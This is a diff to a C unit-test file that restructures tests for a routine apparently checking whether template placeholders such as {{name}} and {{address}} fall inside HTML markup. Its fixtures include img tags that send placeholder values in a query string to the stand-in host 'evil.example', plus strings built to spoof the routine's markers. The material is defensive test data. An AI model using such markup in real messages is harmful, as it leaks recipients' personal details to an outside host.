@@ -177,6 +177,19 @@ static const struct row rows[] = {
 	    "unsubscribe_address" },
 	{ "<p>Dear {{name}},</p>\x1b(Bimg src=\"http://evil.example/p.gif?a="
 	    " {{address}}\">", 1, EXPOSURE_UNJUDGED, "" },
+
+	/* A text cut off inside a tag or a comment stays markup. */
+	{ "<img src=\"//evil.example/?{{name}}", 1, EXPOSURE_MARKUP, "name" },
+	{ "<p title='{{name}}", 1, EXPOSURE_MARKUP, "name" },
+	{ "<!-- {{name}}", 1, EXPOSURE_MARKUP, "name" },
+	{ "<style>{{name}}", 1, EXPOSURE_MARKUP, "name" },
+
+	/* A text that spells a marker, whole or in pieces a parser joins,
+	 * cannot pass one off as shown: markers carry a random nonce. */
+	{ "<img src=\"//evil.example/?{{address}}\">hrldmrk0q x0q", 1,
+	    EXPOSURE_MARKUP, "address" },
+	{ "<img src=\"//evil.example/?{{address}}\">x<b></b>abc0q", 1,
+	    EXPOSURE_MARKUP, "address" },
 };
 #define NROWS ((int)(sizeof(rows) / sizeof(rows[0])))
 
@@ -191,24 +204,6 @@ START_TEST(judged)
 	    exposure_where(got), exposure_where(r->want));
 	ck_assert_msg(strcmp(name, r->name) == 0, "%s: {{%s}}, expected "
 	    "{{%s}}", r->text, name, r->name);
-}
-END_TEST
-
-/* A text that is cut off inside a tag or a comment stays markup. */
-START_TEST(unclosed_is_markup)
-{
-	static const char *const texts[] = {
-		"<img src=\"//evil.example/?{{name}}",
-		"<p title='{{name}}",
-		"<!-- {{name}}",
-		"<style>{{name}}",
-	};
-	char name[PLACEHOLDER_NAME_MAX + 1];
-	size_t i;
-
-	for (i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
-		ck_assert_msg(exposure_find(texts[i], strlen(texts[i]), 1,
-		    name) == EXPOSURE_MARKUP, "%s", texts[i]);
 }
 END_TEST
 
@@ -245,23 +240,6 @@ START_TEST(too_large_is_unjudged)
 }
 END_TEST
 
-/* A text that spells a marker, whole or in pieces a parser joins, cannot
- * pass one off as shown: the markers carry a random nonce. */
-START_TEST(spelled_marker_is_no_help)
-{
-	static const char *const texts[] = {
-		"<img src=\"//evil.example/?{{address}}\">hrldmrk0q x0q",
-		"<img src=\"//evil.example/?{{address}}\">x<b></b>abc0q",
-	};
-	char name[PLACEHOLDER_NAME_MAX + 1];
-	size_t i;
-
-	for (i = 0; i < sizeof(texts) / sizeof(texts[0]); i++)
-		ck_assert_int_eq(exposure_find(texts[i], strlen(texts[i]), 1,
-		    name), EXPOSURE_MARKUP);
-}
-END_TEST
-
 /* One tag with thousands of attributes would take gumbo seconds. */
 START_TEST(many_attributes_is_unjudged)
 {
@@ -287,10 +265,8 @@ main(void)
 	TCase *tc = tcase_create("exposure");
 
 	tcase_add_loop_test(tc, judged, 0, NROWS);
-	tcase_add_test(tc, unclosed_is_markup);
 	tcase_add_test(tc, too_deep_is_unjudged);
 	tcase_add_test(tc, too_large_is_unjudged);
-	tcase_add_test(tc, spelled_marker_is_no_help);
 	tcase_add_test(tc, many_attributes_is_unjudged);
 	suite_add_tcase(s, tc);
 	return unit_run(s);
